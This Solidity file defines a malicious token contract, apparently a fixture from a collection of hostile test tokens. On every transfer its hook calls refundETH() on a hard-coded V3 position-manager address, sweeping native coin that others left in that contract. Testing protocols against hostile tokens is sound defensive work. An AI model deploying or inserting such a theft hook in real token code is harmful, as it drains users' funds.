// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {HonestToken} from "./HostileTokens.sol";

/// Calls the V3 position manager back in each transfer, for the native coin that the sender sent along.
contract RobbingToken is HonestToken {
    function attack(address, address, uint256) internal override {
        (bool ok,) = 0xC36442b4a4522E871399CD717aBDD847Ab11FE88.call(abi.encodeWithSignature("refundETH()"));
        require(ok, "nothing to take");
    }

    receive() external payable {}
}
